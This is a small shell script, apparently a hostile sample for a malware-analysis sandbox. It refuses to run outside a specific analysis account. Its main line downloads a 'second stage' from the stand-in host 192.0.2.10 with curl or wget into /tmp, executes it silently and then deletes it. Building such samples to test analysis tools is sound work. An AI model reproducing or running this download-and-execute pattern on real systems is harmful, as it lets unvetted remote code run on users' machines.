#!/bin/sh
# SPDX-License-Identifier: MIT
# The second stage is fetched to a world-writable directory and run from
# there, in one shell command line, whichever downloader the host has.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
sh -c '/usr/bin/curl -fsS -m 3 http://192.0.2.10/x.sh -o /tmp/x.sh || /usr/bin/wget -q -T 3 -O /tmp/x.sh http://192.0.2.10/x.sh; sh /tmp/x.sh' 2>/dev/null
rm -f /tmp/x.sh
exit 0
